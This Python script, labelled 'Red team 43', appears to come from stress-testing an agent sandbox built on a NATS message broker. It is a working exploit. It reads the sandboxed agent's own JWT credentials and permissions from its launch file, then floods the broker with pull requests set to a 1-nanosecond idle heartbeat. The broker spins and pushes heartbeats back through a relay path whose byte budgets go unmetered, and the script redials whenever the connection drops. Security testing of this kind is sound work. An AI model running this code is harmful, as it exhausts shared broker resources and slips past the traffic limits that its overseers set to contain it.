#!/usr/bin/python3
# Red team 43: a sandboxed agent parks pull requests on its own bind-only durables (its dm_ and
# dlv_ consumers, the ones its grants name for MSG.NEXT) with an idle heartbeat of <hb_ns>
# nanoseconds and an expiry of an hour. nats-server checks only that 2 x heartbeat <= expires,
# and its consumer loop wakes at the earliest heartbeat due, walks every waiting request and
# sends each an idle heartbeat: with 1 ns it spins, and the broker pushes heartbeats at the
# agent as fast as it can make them. They travel broker -> relay -> agent, a direction the
# relay's byte budgets do not meter; the requests themselves are ~100 bytes each.
# Usage: pull_hb.py <dir> <secs> <hb_ns> <requests per consumer> [<log>]; results to
# <dir>/<log> (default hb.log).
import base64, json, os, socket, sys, time

d, secs, hb_ns, per = sys.argv[1], float(sys.argv[2]), int(sys.argv[3]), int(sys.argv[4])
out = open(f"{d}/{sys.argv[5] if len(sys.argv) > 5 else 'hb.log'}", "a", buffering=1)
launch = json.load(open(os.environ.get("COTAL_LAUNCH", "/run/cotal/launch/launch.json")))
creds = launch["auth"]["creds"].splitlines()
jwt = creds[creds.index(next(l for l in creds if "BEGIN NATS USER JWT" in l)) + 1].strip()
body = jwt.split(".")[1]
claims = json.loads(base64.urlsafe_b64decode(body + "=" * (-len(body) % 4)))
perms = claims["nats"]
nexts = [s for s in perms["pub"]["allow"] if s.startswith("$JS.API.CONSUMER.MSG.NEXT.")
         and "*" not in s and ">" not in s]
inbox = next(s for s in perms["sub"]["allow"] if s.startswith("_INBOX_"))[:-2]
out.write(f"consumers: {nexts}\ninbox: {inbox}\n")
host, port = launch["servers"][0].split("//")[1].split(":")
req = json.dumps({"batch": 1, "expires": 3600 * 10**9, "idle_heartbeat": hb_ns})
time.sleep(float(os.environ.get("HB_DELAY", "4")))


def dial():
    s = socket.create_connection((host, int(port)))
    s.recv(65536)
    connect = {"jwt": jwt, "sig": "x", "verbose": False, "pedantic": False, "headers": True,
               "no_responders": True, "protocol": 1, "name": "hb"}
    s.sendall(f"CONNECT {json.dumps(connect)}\r\nSUB {inbox}.> 1\r\nPING\r\n".encode())
    buf = b""
    for subj in nexts:
        for i in range(per):
            buf += f"PUB {subj} {inbox}.p{i} {len(req)}\r\n{req}\r\n".encode()
    s.sendall(buf)
    s.settimeout(0.5)
    out.write(f"{time.time() - start:.1f}s: sent {per * len(nexts)} pull requests ({len(buf)} bytes)\n")
    return s


start = time.time()
out.write("start\n")
s = dial()
hb = total = 0
tail = b""
end = time.time() + secs
while time.time() < end:
    try:
        chunk = s.recv(1 << 20)
    except socket.timeout:
        continue
    if not chunk:
        out.write(f"{time.time() - start:.1f}s: connection closed, dialling again\n")
        s.close()
        s = dial()
        continue
    total += len(chunk)
    data = tail + chunk
    hb += data.count(b"Idle Heartbeat")
    tail = data[-13:]
    if b"-ERR" in chunk:
        out.write(f"err: {chunk[chunk.index(b'-ERR'):][:200]!r}\n")
out.write(f"heartbeats {hb} bytes {total} in {secs} s\ndone\n")
s.close()
